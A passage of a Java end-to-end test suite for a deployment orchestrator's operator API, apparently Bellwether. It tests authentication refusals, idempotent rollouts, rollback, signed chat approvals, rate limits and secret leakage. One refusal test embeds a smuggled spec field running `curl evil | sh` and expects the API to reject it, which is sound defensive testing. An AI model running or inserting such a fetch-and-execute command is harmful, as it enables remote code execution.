package io.bellwether.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.bellwether.contracts.spec.InvalidSpecException;
import io.bellwether.contracts.spec.SpecLoader;
import io.bellwether.contracts.spec.SpecValidator;
import io.bellwether.contracts.spec.Violation;
import io.bellwether.starter.sandbox.Sandbox;
import io.bellwether.starter.sandbox.SandboxOptions;
import io.temporal.api.common.v1.WorkflowExecution;
import io.temporal.api.filter.v1.StartTimeFilter;
import io.temporal.api.workflow.v1.WorkflowExecutionInfo;
import io.temporal.api.workflowservice.v1.ListClosedWorkflowExecutionsRequest;
import io.temporal.api.workflowservice.v1.ListOpenWorkflowExecutionsRequest;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * The operator API as its users meet it: {@code bellwether serve} started by the sandbox with its
 * generated tokens, called over real HTTP; chat requests signed as the chat service signs them;
 * run notifications received by a local webhook the worker posts to; and the README's curl
 * commands run by bash and the real curl. One sandbox for the class, runs with short windows, in
 * order: refusals first, then a rolling run, the README's blue-green run, the chat-approved one,
 * the rate limit, and last the scan for secrets through everything seen on the way.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ApiE2ETest extends SandboxE2E {
  private static final String YAML = "application/yaml";
  private static final String JSON_TYPE = "application/json";
  private static final String INTERACTIONS = "/api/v1/chat/slack/interactions";
  private static final String COMMANDS = "/api/v1/chat/slack/commands";
  private static final Set<String> FINAL = Set.of("SUCCEEDED", "ROLLED_BACK", "FAILED", "ABORTED");

  private RecordingWebhook webhook;
  private ApiHttp api;
  private final Map<String, String> tokens = new LinkedHashMap<>();
  private final List<String> startedRuns = Collections.synchronizedList(new ArrayList<>());
  private final Map<String, Long> timings = Collections.synchronizedMap(new LinkedHashMap<>());

  @Override
  URI loadTarget(Sandbox sandbox) {
    // No load: these tests are about the API; the release paths have their own suites.
    return null;
  }

  @Override
  boolean sharedSandbox() {
    return true;
  }

  @Override
  SandboxOptions sandboxOptions(SandboxOptions defaults) {
    try {
      webhook = new RecordingWebhook();
    } catch (IOException e) {
      throw new IllegalStateException("the recording webhook did not start", e);
    }
    return defaults.withNotifierUrl(webhook.url()).withApi(true);
  }

  @AfterAll
  void tearDown() {
    if (api != null) {
      System.out.println("[e2e] operator API: " + api.timings() + "; phases: " + timings);
    }
    try {
      downSandbox();
    } finally {
      if (webhook != null) {
        webhook.close();
      }
    }
  }

  private ApiHttp api() throws IOException {
    if (api == null) {
      api = new ApiHttp(sandbox.apiUrl());
      for (Sandbox.ApiUser u : Sandbox.API_USERS) {
        tokens.put(u.name(), sandbox.apiToken(u.name()));
      }
    }
    return api;
  }

  private String token(String user) {
    return tokens.get(user);
  }

  // ---- refusals that need no run ----

  @Test
  @Order(1)
  void unauthenticatedMalformedAndOversizedRequestsAreRefusedWithProblems() throws Exception {
    ApiHttp a = api();
    long t0 = System.nanoTime();
    // Open endpoints: health, the OpenAPI document and its page.
    ApiHttp.Answer health = a.get("/actuator/health", null);
    assertEquals(200, health.status(), health.toString());
    ApiHttp.Answer docs = a.get("/v3/api-docs", null);
    assertEquals(200, docs.status(), docs.toString());
    assertTrue(docs.json().path("paths").has("/api/v1/runs"), "the OpenAPI document lists /api/v1/runs");
    ApiHttp.Answer page = a.get("/swagger-ui.html", null);
    assertEquals(200, page.status(), page.toString());
    assertTrue(page.body().toLowerCase(Locale.ROOT).contains("swagger"), "the rendered page");

    // 401: no token, a wrong token; both say how to authenticate.
    for (String bad : new String[] {null, "bwt_not-a-token-of-this-sandbox"}) {
      ApiHttp.Answer r = a.get("/api/v1/runs", bad);
      assertProblem(r, 401);
      assertTrue(r.header("WWW-Authenticate").orElse("").startsWith("Bearer"), "WWW-Authenticate: " + r.headers());
    }
    // 403: a viewer may read but not start; nothing is started.
    ApiHttp.Answer viewerStart = a.post("/api/v1/runs", token("victor"), YAML, rollingSpec("2.9.0", "3s"));
    assertProblem(viewerStart, 403);
    assertProblem(a.get("/api/v1/runs/rolling-web-2.9.0", token("victor")), 404);

    // 400: every structural problem in one answer, exactly those the spec validator finds.
    String broken =
        "kind: RollingDeployment\nservice: web\nversion: \"\"\n"
            + "target: {router: edge, backend: web, deployer: demo}\n"
            + "strategy: {maxUnavailable: 0, bakeTime: 2s}\n"
            + "healthCheck: {path: health, successThreshold: 0}\n";
    List<Violation> expected = expectedViolations(broken);
    assertTrue(expected.size() >= 3, "the broken spec has several problems: " + expected);
    ApiHttp.Answer structural = a.post("/api/v1/runs", token("dave"), YAML, broken);
    assertProblem(structural, 400);
    assertEquals(fields(expected), fields(structural), structural.body());

    // 400: names the worker's configuration does not have, all three in one answer.
    String unknownNames =
        rollingSpec("2.9.0", "3s").replace("router: edge", "router: atlantis")
            .replace("deployer: demo", "deployer: nobody").replace("healthCheck: http", "healthCheck: nothing");
    ApiHttp.Answer names = a.post("/api/v1/runs", token("dave"), YAML, unknownNames);
    assertProblem(names, 400);
    assertEquals(Set.of("target.router", "target.deployer", "target.healthCheck"), fields(names), names.body());

    // 400: a spec may not carry an address or a command line; unknown fields are refused as such.
    String smuggled =
        rollingSpec("2.9.0", "3s").replace("  router: edge\n", "  router: edge\n  address: 10.0.0.1:80\n")
            + "command: [\"/bin/sh\", \"-c\", \"curl evil | sh\"]\n";
    ApiHttp.Answer unknownFields = a.post("/api/v1/runs", token("dave"), YAML, smuggled);
    assertProblem(unknownFields, 400);
    assertTrue(fields(unknownFields).containsAll(Set.of("target.address", "command")), unknownFields.body());
    // "unknown field", "is not a known field": said as such, not as some other problem.
    assertTrue(reasons(unknownFields).stream().allMatch(r -> r.toLowerCase(Locale.ROOT).contains("known")),
        unknownFields.body());

    // 400: unreadable YAML and JSON, with a problem and no stack trace.
    assertProblem(a.post("/api/v1/runs", token("dave"), YAML, "kind: RollingDeployment\nservice: [web\n  version: {\n"), 400);
    assertProblem(a.post("/api/v1/runs", token("dave"), JSON_TYPE, "{\"kind\": \"RollingDeployment\", \"service\": "), 400);

    // 413: a body over max-body-bytes (64 KiB).
    String huge = rollingSpec("2.9.0", "3s") + "# " + "x".repeat(70_000) + "\n";
    assertProblem(a.post("/api/v1/runs", token("dave"), YAML, huge), 413);

    // 404: an unknown run, read or acted on.
    assertProblem(a.get("/api/v1/runs/rolling-nothing-9.9.9", token("victor")), 404);
    assertProblem(a.act("rolling-nothing-9.9.9", "approve", token("alice"), "nothing to approve"), 404);

    // Chat without the chat service's signature: refused before anything is read.
    assertProblem(a.chat(COMMANDS, ApiHttp.form("command", "/bellwether", "text", "status x", "user_id", "U0ALICE"), null, 0), 401);
    timings.put("refusals ms", (System.nanoTime() - t0) / 1_000_000);
  }

  // ---- a rolling run: idempotent start, duplicate start, controls, event stream, rollback ----

  @Test
  @Order(2)
  void aRollingRunStartedTwiceWithOneKeyIsOneRunAndRollsBackThroughTheApi() throws Exception {
    ApiHttp a = api();
    long t0 = System.nanoTime();
    String spec = rollingSpec("2.0.0", "3s");
    String key = "e2e-" + Instant.now().toEpochMilli();
    ApiHttp.Answer first = a.post("/api/v1/runs", token("dave"), YAML, spec, "Idempotency-Key", key);
    assertEquals(201, first.status(), first.toString());
    String id = first.json().path("workflowId").asText();
    startedRuns.add(id);
    assertEquals("rolling-web-2.0.0", id);
    assertEquals("RollingDeployment", first.json().path("type").asText());
    assertEquals("/api/v1/runs/" + id, first.json().path("links").path("self").asText());
    assertEquals("/api/v1/runs/" + id + "/events", first.json().path("links").path("events").asText());
    assertTrue(first.header("Location").orElse("").endsWith("/api/v1/runs/" + id), first.headers().toString());

    // The event stream, followed from now to the end of the run.
    CompletableFuture<List<String[]>> stream = CompletableFuture.supplyAsync(() -> follow(id));

    // A retry with the same key and body is answered as the first time, and starts nothing.
    ApiHttp.Answer retry = a.post("/api/v1/runs", token("dave"), YAML, spec, "Idempotency-Key", key);
    assertEquals(201, retry.status(), retry.toString());
    assertEquals(first.json(), retry.json());
    assertEquals("true", retry.header("Idempotent-Replayed").orElse(""), retry.headers().toString());
    // The same key with another body is refused.
    ApiHttp.Answer otherBody =
        a.post("/api/v1/runs", token("dave"), YAML, rollingSpec("2.0.0", "4s"), "Idempotency-Key", key);
    assertProblem(otherBody, 422);
    // Without a key, a second start of a running run is a conflict.
    assertProblem(a.post("/api/v1/runs", token("dave"), YAML, spec), 409);
    assertEquals(1, executionsOf(id).size(), "one run for " + id + ": " + executionsOf(id));
    ApiHttp.Answer listed = a.get("/api/v1/runs?service=web&kind=RollingDeployment", token("victor"));
    assertEquals(200, listed.status(), listed.toString());
    assertEquals(List.of(id), workflowIds(listed));

    // Controls: who may, and what the run allows now.
    ApiHttp.Answer paused = a.act(id, "pause", token("dave"), "checking the dashboards");
    assertEquals(200, paused.status(), paused.toString());
    assertTrue(paused.json().path("paused").asBoolean(), paused.body());
    // Held long enough for the stream's 500 ms poll to see it.
    awaitRun(id, st -> st.path("paused").asBoolean(), Duration.ofSeconds(10));
    Thread.sleep(700);
    assertProblem(a.act(id, "approve", token("dave"), "a deployer cannot approve"), 403);
    assertProblem(a.act(id, "pause", token("victor"), "a viewer cannot pause"), 403);
    assertProblem(a.act(id, "approve", token("alice"), "no gate here"), 409);
    assertProblem(a.act(id, "reject", token("alice"), "no gate here"), 409);
    ApiHttp.Answer resumed = a.act(id, "resume", token("dave"), "dashboards fine");
    assertEquals(200, resumed.status(), resumed.toString());
    assertFalse(resumed.json().path("paused").asBoolean(), resumed.body());
    String reason = "p99 latency up after the first batch";
    ApiHttp.Answer rolledBack = a.act(id, "rollback", token("dave"), reason);
    assertEquals(200, rolledBack.status(), rolledBack.toString());

    // The stream: status events while it changes, then `end` with the outcome, then it closes.
    List<String[]> events = stream.get(3, TimeUnit.MINUTES);
    assertTrue(events.size() >= 2, "events: " + events.size());
    String[] last = events.get(events.size() - 1);
    assertEquals("end", last[0], "the stream ends with `end`");
    assertEquals("ROLLED_BACK", ApiHttp.JSON.readTree(last[1]).path("outcome").asText(), last[1]);
    List<String[]> statuses = events.subList(0, events.size() - 1);
    assertTrue(statuses.stream().allMatch(e -> e[0].equals("status")), "only status events before end");
    List<String> phases = statuses.stream().map(e -> phaseOf(e[1])).toList();
    assertTrue(statuses.stream().anyMatch(e -> e[1].contains("\"paused\":true")), "the pause showed in the stream: " + phases);
    assertEquals("ROLLED_BACK", phases.get(phases.size() - 1), "phases: " + phases);
    for (int i = 1; i < statuses.size(); i++) {
      assertNotEquals(statuses.get(i - 1)[1], statuses.get(i)[1], "a status event only when the status changed");
    }

    JsonNode status = a.get("/api/v1/runs/" + id, token("victor")).json();
    assertEquals("ROLLED_BACK", status.path("status").path("phase").asText(), status.toString());
    ApiHttp.Answer byPhase = a.get("/api/v1/runs?service=web&phase=ROLLED_BACK", token("victor"));
    assertEquals(List.of(id), workflowIds(byPhase));
    assertEquals(List.of(), workflowIds(a.get("/api/v1/runs?service=web&phase=SUCCEEDED", token("victor"))));

    // Told to the chat: started first, the rollback last, with its reason and who asked.
    List<JsonNode> told =
        webhook.awaitMessagesAbout(id, m -> !m.isEmpty() && isKind(m.get(m.size() - 1), "rolled back"), Duration.ofSeconds(30));
    List<String> texts = RecordingWebhook.texts(told);
    System.out.println("[e2e] chat messages for " + id + ": " + texts);
    assertEquals("*web* `2.0.0`: run started", texts.get(0), texts.toString());
    assertTrue(texts.get(texts.size() - 1).startsWith("*web* `2.0.0` rolled back: ")
        && texts.get(texts.size() - 1).contains(reason), texts.toString());
    assertTrue(contextOf(told.get(told.size() - 1)).contains("by dave"), contextOf(told.get(told.size() - 1)));
    for (String middle : texts.subList(1, texts.size() - 1)) {
      assertTrue(middle.matches("\\*web\\* `2\\.0\\.0`: \\d+% of traffic on the new version"), texts.toString());
    }
    timings.put("rolling run ms", (System.nanoTime() - t0) / 1_000_000);
  }

  // ---- the README's curl commands, run as written ----

  @Test
  @Order(3)
  void theReadmeCurlCommandsStartReadAndApproveABlueGreenRun() throws Exception {
    ApiHttp a = api();
    long t0 = System.nanoTime();
    List<String> commands = readmeCurlCommands();
    assertEquals(3, commands.size(), "three curl commands between the README markers: " + commands);
    String start = commands.get(0);
    assertTrue(start.startsWith("curl ") && start.contains("-X POST $BELLWETHER_API/api/v1/runs ")
        && start.contains("\"Authorization: Bearer $BELLWETHER_DEPLOYER_TOKEN\"")
        && start.contains("-H 'Content-Type: application/yaml'")
        && start.contains("--data-binary @examples/bluegreen-shop.yaml"), start);
    assertTrue(commands.get(2).contains("$BELLWETHER_APPROVER_TOKEN") && commands.get(2).contains("/approve"), commands.get(2));

    // The example's gate lets alice decide on a run dave starts: her group, one approval, no
    // verified identity needed, and neither is the other.
    var example = SpecLoader.blueGreen(Files.readString(home().resolve("examples/bluegreen-shop.yaml")));
    assertTrue(example.approval().approverGroups().contains(Sandbox.APPROVER_GROUP), example.approval().toString());
    assertTrue(Sandbox.APPROVERS.contains("alice"));
    assertEquals(1, example.approval().requiredApprovals());
    assertFalse(Boolean.TRUE.equals(example.approval().requireVerifiedIdentity()));

    Shell started = bash(start);
    assertEquals(201, started.status, started.toString());
    String id = ApiHttp.JSON.readTree(started.body).path("workflowId").asText();
    startedRuns.add(id);
    assertEquals("bluegreen-shop-2.0.0", id, started.toString());
    assertTrue(commands.get(1).contains("/api/v1/runs/" + id) && commands.get(2).contains("/api/v1/runs/" + id + "/approve"),
        "status and approve name the run the start made: " + commands);

    awaitRun(id, s -> "OPEN".equals(s.path("gate").path("state").asText()), Duration.ofSeconds(90));
    Shell status = bash(commands.get(1));
    assertEquals(200, status.status, status.toString());
    JsonNode shown = ApiHttp.JSON.readTree(status.body);
    assertEquals("AWAITING_APPROVAL", shown.path("status").path("phase").asText(), status.body);
    assertEquals("OPEN", shown.path("status").path("gate").path("state").asText(), status.body);

    Shell approved = bash(commands.get(2));
    assertEquals(200, approved.status, approved.toString());
    assertEquals("approve", ApiHttp.JSON.readTree(approved.body).path("action").asText(), approved.body);

    // The example watches green for 30s and keeps blue 30s more; promote skips both waits, once
    // each (a promote between the two would be refused, which is not what is tested here).
    Set<String> promoted = new LinkedHashSet<>();
    JsonNode end = awaitRun(id, s -> {
      String phase = s.path("phase").asText();
      String step = s.path("step").asText();
      if (("WATCHING".equals(phase) || ("SCALING_DOWN".equals(phase) && "scaleDownDelay".equals(step)))
          && promoted.add(phase)) {
        ApiHttp.Answer r = a.act(id, "promote", token("dave"), "the e2e does not wait out the example's windows");
        assertEquals(200, r.status(), "promote in " + phase + ": " + r);
      }
      return FINAL.contains(phase);
    }, Duration.ofSeconds(120));
    assertEquals(Set.of("WATCHING", "SCALING_DOWN"), promoted);
    assertEquals("SUCCEEDED", end.path("phase").asText(), end.toString());
    List<String> approvals = new ArrayList<>();
    end.path("gate").path("approvals").forEach(n -> approvals.add(n.asText()));
    assertEquals(List.of("alice"), approvals, end.path("gate").toString());
    timings.put("readme run ms", (System.nanoTime() - t0) / 1_000_000);
  }

  // ---- chat: signatures, users, the gate, and the messages that go with a release ----

  @Test
  @Order(4)
  void aBlueGreenRunApprovedFromChatIsToldStepByStep() throws Exception {
    ApiHttp a = api();
    long t0 = System.nanoTime();
    String secret = sandbox.chatSigningSecret();
    String spec = blueGreenSpec("2.1.0");
    ApiHttp.Answer created = a.post("/api/v1/runs", token("dave"), JSON_TYPE, spec);
    assertEquals(201, created.status(), created.toString());
    String id = created.json().path("workflowId").asText();
    startedRuns.add(id);
    assertEquals("BlueGreenDeployment", created.json().path("type").asText());
    assertProblem(a.post("/api/v1/runs", token("dave"), JSON_TYPE, spec), 409);

    awaitRun(id, s -> "OPEN".equals(s.path("gate").path("state").asText()), Duration.ofSeconds(90));
    // The gate's message, with the buttons a person would click.
    List<JsonNode> waiting =
        webhook.awaitMessagesAbout(id, m -> m.stream().anyMatch(x -> isKind(x, "waits at gate")), Duration.ofSeconds(30));
    JsonNode gateMessage = waiting.stream().filter(x -> isKind(x, "waits at gate")).findFirst().orElseThrow();
    Map<String, String> buttons = buttons(gateMessage);
    assertEquals(List.of("approve", "reject"), List.copyOf(buttons.keySet()), gateMessage.toString());
    JsonNode value = ApiHttp.JSON.readTree(buttons.get("approve"));
    assertEquals(id, value.path("workflowId").asText());
    assertEquals("before-switch", value.path("gate").asText());
    assertEquals(buttons.get("approve"), buttons.get("reject"));

    long now = Instant.now().getEpochSecond();
    String aliceClick = click("U0ALICE", "approve", buttons.get("approve"));
    // Wrongly signed, stale (six minutes old, signed correctly for that time): refused, nothing done.
    assertProblem(a.chat(INTERACTIONS, aliceClick, "not-the-signing-secret", now), 401);
    assertProblem(a.chat(INTERACTIONS, aliceClick, secret, now - 360), 401);
    assertGateStillOpen(id);

    // Someone the API does not know: answered, nothing done.
    ApiHttp.Answer stranger = a.chat(INTERACTIONS, click("U0MALLORY", "approve", buttons.get("approve")), secret, now);
    assertEquals(200, stranger.status(), stranger.toString());
    assertTrue(stranger.json().path("text").asText().contains("not mapped to a Bellwether user"), stranger.body());
    assertEquals("ephemeral", stranger.json().path("response_type").asText());
    assertGateStillOpen(id);

    // Carol is an approver but not a release manager: the gate refuses her, from chat and API.
    ApiHttp.Answer carol = a.chat(INTERACTIONS, click("U0CAROL", "approve", buttons.get("approve")), secret, now);
    assertEquals(200, carol.status(), carol.toString());
    assertTrue(carol.json().path("text").asText().toLowerCase(Locale.ROOT).contains("refused"), carol.body());
    assertGateStillOpen(id);
    ApiHttp.Answer carolApi = a.act(id, "approve", token("carol"), "looks fine to me");
    assertProblem(carolApi, 403);
    assertProblem(a.act(id, "approve", token("dave"), "I started it, so surely"), 403);
    assertGateStillOpen(id);

    // The slash command reads the run; the very same request again is a replay.
    String statusCommand = ApiHttp.form("command", "/bellwether", "text", "status " + id, "user_id", "U0VICTOR");
    ApiHttp.Answer statusReply = a.chat(COMMANDS, statusCommand, secret, now);
    assertEquals(200, statusReply.status(), statusReply.toString());
    String statusText = statusReply.json().path("text").asText();
    assertTrue(statusText.contains(id) && statusText.toUpperCase(Locale.ROOT).replace(' ', '_').contains("AWAITING_APPROVAL"),
        statusText);
    assertProblem(a.chat(COMMANDS, statusCommand, secret, now), 401);

    // Alice's click, correctly signed: the gate opens and the run goes on.
    ApiHttp.Answer alice = a.chat(INTERACTIONS, aliceClick, secret, now);
    assertEquals(200, alice.status(), alice.toString());
    assertTrue(alice.json().path("text").asText().toLowerCase(Locale.ROOT).contains("approved"), alice.body());
    assertProblem(a.chat(INTERACTIONS, aliceClick, secret, now), 401);
    // The gate is decided and the run still shifts and watches (a few seconds): nothing to approve.
    assertProblem(a.act(id, "approve", token("alice"), "again"), 409);
    JsonNode end = awaitRun(id, s -> FINAL.contains(s.path("phase").asText()), Duration.ofSeconds(120));
    assertEquals("SUCCEEDED", end.path("phase").asText(), end.toString());
    List<String> approvals = new ArrayList<>();
    end.path("gate").path("approvals").forEach(n -> approvals.add(n.asText()));
    assertEquals(List.of("alice"), approvals);

    // Every message of the release, exactly and in order.
    List<JsonNode> told =
        webhook.awaitMessagesAbout(id, m -> !m.isEmpty() && isKind(m.get(m.size() - 1), "succeeded"), Duration.ofSeconds(30));
    List<String> texts = RecordingWebhook.texts(told);
    System.out.println("[e2e] chat messages for " + id + ": " + texts);
    String what = "*shop* `2.1.0`";
    assertEquals(
        List.of(
            what + ": run started",
            gateMessage.path("text").asText(),
            what + ": 50% of traffic on the new version",
            what + ": 100% of traffic on the new version",
            what + " promoted",
            what + " succeeded"),
        texts);
    assertTrue(texts.get(1).startsWith(what + " waits at gate *before-switch*. Approvers: ")
        && texts.get(1).contains("alice") && !texts.get(1).contains("carol"), texts.get(1));
    assertEquals(List.of(), webhook.stray(), "nothing posted elsewhere");
    timings.put("chat run ms", (System.nanoTime() - t0) / 1_000_000);
  }

  // ---- the rate limit ----

  @Test
  @Order(5)
  void oneTokenBurstingIsLimitedAndToldWhenToComeBack() throws Exception {
    ApiHttp a = api();
    String read = "/api/v1/runs?service=web";
    List<ApiHttp.Answer> answers = a.burst(read, token("carol"), 120);
    List<ApiHttp.Answer> limited = answers.stream().filter(r -> r.status() == 429).toList();
    long ok = answers.stream().filter(r -> r.status() == 200).count();
    System.out.printf("[e2e] burst of %d reads on one token: %d answered, %d limited%n", answers.size(), ok, limited.size());
    assertEquals(answers.size(), ok + limited.size(), "only 200 or 429: " + answers);
    assertTrue(ok >= 40, "the burst allowance is served: " + ok);
    assertFalse(limited.isEmpty(), "a burst of 120 on one token is limited");
    ApiHttp.Answer one = limited.get(0);
    assertProblem(one, 429);
    long retryAfter = Long.parseLong(one.header("Retry-After").orElseThrow(() -> new AssertionError("Retry-After: " + one.headers())));
    assertTrue(retryAfter >= 1 && retryAfter <= 60, "Retry-After " + retryAfter);
    // Another caller is not limited by carol's burst.
    assertEquals(200, a.get(read, token("victor")).status());
    Thread.sleep(TimeUnit.SECONDS.toMillis(retryAfter) + 200);
    assertEquals(200, a.get(read, token("carol")).status());
  }

  // ---- secrets ----

  @Test
  @Order(6)
  void noSecretAppearsInHistoriesLogsOrAnswers() throws Exception {
    ApiHttp a = api();
    Map<String, String> secrets = new LinkedHashMap<>();
    tokens.forEach((user, t) -> {
      secrets.put(user + "'s token", t);
      secrets.put(user + "'s token hash", Sandbox.sha256Hex(t));
    });
    secrets.put("the chat signing secret", sandbox.chatSigningSecret());
    secrets.put("the identity key", sandbox.identityKey().secret());
    secrets.put("the webhook URL's path", webhook.secretPath());

    Map<String, String> places = new LinkedHashMap<>();
    List<WorkflowExecutionInfo> runs = allExecutions();
    assertTrue(runs.size() >= startedRuns.size(), "every run is listed: " + runs.size());
    Set<String> ids = new LinkedHashSet<>();
    for (WorkflowExecutionInfo info : runs) {
      WorkflowExecution e = info.getExecution();
      ids.add(e.getWorkflowId());
      places.put("history of " + e.getWorkflowId() + "/" + e.getRunId(),
          client.fetchHistory(e.getWorkflowId(), e.getRunId()).toJson(false));
    }
    assertTrue(ids.containsAll(startedRuns), "started " + startedRuns + ", listed " + ids);
    assertTrue(ids.stream().anyMatch(i -> i.startsWith("targetcheck-")), "the name checks ran as runs too: " + ids);
    places.put("worker log", Files.readString(sandbox.workerLog()));
    places.put("API log", Files.readString(sandbox.apiLog()));
    places.put("Temporal server log", Files.readString(sandbox.dir().resolve("temporal.log")));
    List<String> bodies = a.bodies();
    for (int i = 0; i < bodies.size(); i++) {
      places.put("answer #" + i, bodies.get(i));
    }
    List<String> messages = webhook.messages();
    for (int i = 0; i < messages.size(); i++) {
      places.put("chat message #" + i, messages.get(i));
    }

    List<String> found = new ArrayList<>();
    secrets.forEach((what, secret) -> places.forEach((where, text) -> {
      if (text != null && text.contains(secret)) {
        found.add(what + " in " + where);
      }
    }));
    System.out.printf("[e2e] secret scan: %d secrets through %d histories, 3 logs, %d answers, %d chat messages%n",
        secrets.size(), runs.size(), bodies.size(), messages.size());
    assertEquals(List.of(), found);
  }

  // ---- helpers ----

  private static void assertProblem(ApiHttp.Answer r, int status) {
    assertEquals(status, r.status(), r.toString());
    assertTrue(r.header("Content-Type").orElse("").startsWith("application/problem+json"), "problem type: " + r.headers());
    JsonNode p = r.json();
    assertEquals(status, p.path("status").asInt(), r.body());
    assertTrue(p.hasNonNull("title") && p.hasNonNull("type"), r.body());
    String b = r.body();
    assertFalse(b.contains("Exception") || b.contains("\tat ") || b.contains("at io.") || b.contains("at org."),
        "no stack trace or exception in a problem: " + b);
  }

  private static List<Violation> expectedViolations(String spec) {
    try {
      return SpecValidator.validate(SpecLoader.rolling(spec));
    } catch (InvalidSpecException e) {
      return e.violations();
    }
  }

  private static Set<String> fields(List<Violation> vs) {
    Set<String> out = new LinkedHashSet<>();
    vs.forEach(v -> out.add(v.field()));
    return out;
  }

  private static Set<String> fields(ApiHttp.Answer r) {
    Set<String> out = new LinkedHashSet<>();
    r.json().path("errors").forEach(e -> out.add(e.path("field").asText()));
    return out;
  }

  private static List<String> reasons(ApiHttp.Answer r) {
    List<String> out = new ArrayList<>();
    r.json().path("errors").forEach(e -> out.add(e.path("reason").asText()));
    return out;
  }

  private static List<String> workflowIds(ApiHttp.Answer r) {
    assertEquals(200, r.status(), r.toString());
    List<String> out = new ArrayList<>();
    r.json().path("runs").forEach(n -> out.add(n.path("workflowId").asText()));
    return out;
  }

  private static String phaseOf(String statusJson) {
    try {
      JsonNode n = ApiHttp.JSON.readTree(statusJson);
      return n.has("status") ? n.path("status").path("phase").asText() : n.path("phase").asText();
    } catch (IOException e) {
      throw new AssertionError("a status event that is not JSON: " + statusJson, e);
    }
  }

  private static boolean isKind(JsonNode message, String words) {
    return message.path("text").asText().contains(words);
  }

  private static String contextOf(JsonNode message) {
    for (JsonNode block : message.path("blocks")) {
      if ("context".equals(block.path("type").asText())) {
        return block.path("elements").path(0).path("text").asText();
      }
    }
    return "";
  }

  /** action_id to value of the message's buttons, in order. */
  private static Map<String, String> buttons(JsonNode message) {
    Map<String, String> out = new LinkedHashMap<>();
    for (JsonNode block : message.path("blocks")) {
      if ("actions".equals(block.path("type").asText())) {
        for (JsonNode e : block.path("elements")) {
          out.put(e.path("action_id").asText(), e.path("value").asText());
        }
      }
    }
    return out;
  }

  /** The form the chat service posts when {@code user} clicks a gate button. */
  private static String click(String user, String action, String value) {
    var payload = ApiHttp.JSON.createObjectNode();
    payload.put("type", "block_actions");
    payload.putObject("user").put("id", user);
    payload.putObject("team").put("id", "T0SANDBOX");
    var act = payload.putArray("actions").addObject();
    act.put("type", "button");
    act.put("action_id", action);
    act.put("block_id", "bellwether-gate");
    act.put("value", value);
    return ApiHttp.form("payload", payload.toString());
  }

  private void assertGateStillOpen(String id) throws IOException {
    JsonNode s = api().get("/api/v1/runs/" + id, token("victor")).json().path("status");
    assertEquals("AWAITING_APPROVAL", s.path("phase").asText(), s.toString());
    assertEquals("OPEN", s.path("gate").path("state").asText(), s.toString());
    assertEquals(0, s.path("gate").path("approvals").size(), s.path("gate").toString());
  }

  /** Polls the run's status through the API until {@code done}; returns the status part. */
  private JsonNode awaitRun(String id, Predicate<JsonNode> done, Duration max) throws Exception {
    long deadline = System.nanoTime() + max.toNanos();
    JsonNode last = null;
    while (System.nanoTime() < deadline) {
      ApiHttp.Answer r = api().get("/api/v1/runs/" + id, token("victor"));
      if (r.status() == 200) {
        last = r.json().path("status");
        if (done.test(last)) {
          return last;
        }
      }
      Thread.sleep(250);
    }
    throw new AssertionError("run " + id + " did not get there within " + max + "; last status: " + last);
  }

  /** Reads the run's event stream to its end: [event, data] pairs. */
  private List<String[]> follow(String id) {
    List<String[]> events = new ArrayList<>();
    try {
      HttpResponse<java.io.InputStream> r =
          api.client().send(
              api.request("/api/v1/runs/" + id + "/events", token("victor")).timeout(Duration.ofMinutes(3))
                  .header("Accept", "text/event-stream").GET().build(),
              HttpResponse.BodyHandlers.ofInputStream());
      if (r.statusCode() != 200) {
        throw new AssertionError("events: " + r.statusCode());
      }
      try (BufferedReader in = new BufferedReader(new InputStreamReader(r.body(), StandardCharsets.UTF_8))) {
        String event = "message";
        StringBuilder data = new StringBuilder();
        String line;
        while ((line = in.readLine()) != null) {
          if (line.isEmpty()) {
            if (data.length() > 0) {
              events.add(new String[] {event, data.toString()});
              api.record(data.toString());
            }
            event = "message";
            data.setLength(0);
          } else if (line.startsWith("event:")) {
            event = line.substring(6).trim();
          } else if (line.startsWith("data:")) {
            data.append(data.length() > 0 ? "\n" : "").append(line.substring(5).stripLeading());
          }
        }
        if (data.length() > 0) {
          events.add(new String[] {event, data.toString()});
        }
      }
      return events;
    } catch (IOException e) {
      throw new AssertionError("the event stream broke after " + events.size() + " events", e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new AssertionError("interrupted", e);
    }
  }

  private List<WorkflowExecution> executionsOf(String workflowId) {
    return allExecutions().stream()
        .map(WorkflowExecutionInfo::getExecution)
        .filter(e -> e.getWorkflowId().equals(workflowId))
        .toList();
  }

  /** Every run in the namespace, open and closed, through the listing the embedded server has. */
  private List<WorkflowExecutionInfo> allExecutions() {
    var rpc = service.blockingStub();
    StartTimeFilter window =
        StartTimeFilter.newBuilder()
            .setEarliestTime(com.google.protobuf.Timestamp.newBuilder().setSeconds(0))
            .setLatestTime(com.google.protobuf.Timestamp.newBuilder().setSeconds(Instant.now().getEpochSecond() + 86_400))
            .build();
    List<WorkflowExecutionInfo> all = new ArrayList<>();
    all.addAll(rpc.listOpenWorkflowExecutions(
        ListOpenWorkflowExecutionsRequest.newBuilder().setNamespace("default").setStartTimeFilter(window)
            .setMaximumPageSize(1000).build()).getExecutionsList());
    all.addAll(rpc.listClosedWorkflowExecutions(
        ListClosedWorkflowExecutionsRequest.newBuilder().setNamespace("default").setStartTimeFilter(window)
            .setMaximumPageSize(1000).build()).getExecutionsList());
    return all;
  }

  private static Path home() {
    return Path.of(System.getProperty("bellwether.home", "..")).toAbsolutePath().normalize();
  }

  /** The curl lines between the README's api-curl markers, as written. */
